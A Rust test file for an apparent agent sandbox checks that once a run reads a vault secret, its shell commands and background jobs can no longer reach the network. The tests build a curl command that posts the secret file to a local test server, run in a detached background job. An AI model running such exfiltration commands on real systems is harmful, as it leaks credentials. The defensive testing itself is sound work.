//! A run with a network in its shell session reads data that a flow rule must not let reach the network.
//! After that, no command and no background job of the run can send the data.

use std::{fs, path::PathBuf};

use portcullis_testing::CallOutcome;
use portcullis_types::ToolErrorKind;
use serde_json::json;

use super::{Server, Shell, shell};
use crate::{shell::backends::wait_until, support::is_process_argument};

const VAULT_TO_NETWORK: &str = "flow[vault -> network]";

/// Creates a shell with a secret in the vault.
async fn shell_with_vault(server: &Server) -> Shell {
    let shell = shell(server).await;
    fs::write(shell.fixture.workspace().join("vault/key"), "secret").expect("written");
    shell
}

fn shared(shell: &Shell, name: &str) -> PathBuf {
    shell.fixture.workspace().join("shared").join(name)
}

/// Returns a command that waits for a shared file with this name, and then sends the file.
fn send_command(server: &Server, file: &str) -> String {
    format!(
        "until [[ -e /shared/{file} ]]; do sleep 0.01; done; \
         curl --silent --show-error --data-binary @/shared/{file} {}",
        server.url(file)
    )
}

/// Returns a background job that runs this command. Its argument is unique on the machine, so that the job
/// can be found.
fn background_job(server: &Server, file: &str, argument: &str) -> String {
    format!("bash -c {:?} {argument} >/dev/null 2>&1 & true", send_command(server, file))
}

#[tokio::test]
async fn a_job_has_no_network_once_its_run_reads_the_vault() {
    let server = Server::start();
    let shell = shell_with_vault(&server).await;
    // The control: a job can send data that no rule restricts.
    shell.text(&background_job(&server, "public", &format!("control-{}", server.port()))).await;
    shell.fixture.put("public", "anything");
    wait_until(|| server.requests() == 1).await;

    let argument = format!("job-{}", server.port());
    shell.text(&background_job(&server, "key", &argument)).await;
    wait_until(|| is_process_argument(&argument)).await;
    let copy = json!({"source_path": "/vault/key", "destination_path": "/shared/key"});
    assert!(CallOutcome::run(&shell.registry, "vault_copyto", copy).await.0.outcome.is_output());
    // Wait for the end of the job, whether the job has read the copy or was killed.
    wait_until(|| !is_process_argument(&argument)).await;
    assert_eq!(server.requests(), 1);
    shell.run("true").await.assert_refused(ToolErrorKind::Denied, "flow_denied");
    assert_eq!(shell.last_row().rule.as_deref(), Some(VAULT_TO_NETWORK));
}

#[tokio::test]
async fn a_command_under_way_is_ended_before_its_run_reads_the_vault() {
    let server = Server::start();
    let shell = shell_with_vault(&server).await;
    let command = format!("touch begun; {}", send_command(&server, "key"));
    let read_and_copy = async {
        wait_until(|| shared(&shell, "begun").exists()).await;
        let read = CallOutcome::run(&shell.registry, "file_read", json!({"path": "/vault/key"})).await.text();
        let write = json!({"path": "/shared/key", "content": read});
        assert!(CallOutcome::run(&shell.registry, "file_write", write).await.0.outcome.is_output());
    };
    let (ended, ()) = tokio::join!(shell.run(&command), read_and_copy);
    ended.assert_refused(ToolErrorKind::Denied, "flow_denied");
    assert_eq!(server.requests(), 0);
    let rows = shell.fixture.rows();
    let denied_rows = rows.iter().filter(|row| row.code.as_deref() == Some("flow_denied"));
    assert_eq!(denied_rows.count(), 1, "{rows:#?}");
}

#[tokio::test]
async fn a_session_outlives_reads_of_other_mounts() {
    let server = Server::start();
    let shell = shell_with_vault(&server).await;
    shell.text("kept=here").await;
    shell.fixture.put("note", "text");
    assert!(
        CallOutcome::run(&shell.registry, "file_read", json!({"path": "/shared/note"}))
            .await
            .0
            .outcome
            .is_output()
    );
    assert!(
        CallOutcome::run(&shell.registry, "file_search", json!({"query": "text"}))
            .await
            .0
            .outcome
            .is_output()
    );
    assert_eq!(shell.text("echo $kept").await, "here\n");
}

#[tokio::test]
async fn a_session_outlives_what_another_run_reads() {
    let server = Server::start();
    let shell = shell_with_vault(&server).await;
    shell.text("kept=here").await;
    let call = portcullis_tools::new_call("file_read", json!({"path": "/vault/key"}).to_string());
    let other = shell.registry.execute_with_policy(call, &super::super::another_agent()).await;
    assert!(other.outcome.is_output(), "{other:?}");
    assert_eq!(shell.text("echo $kept").await, "here\n");
}
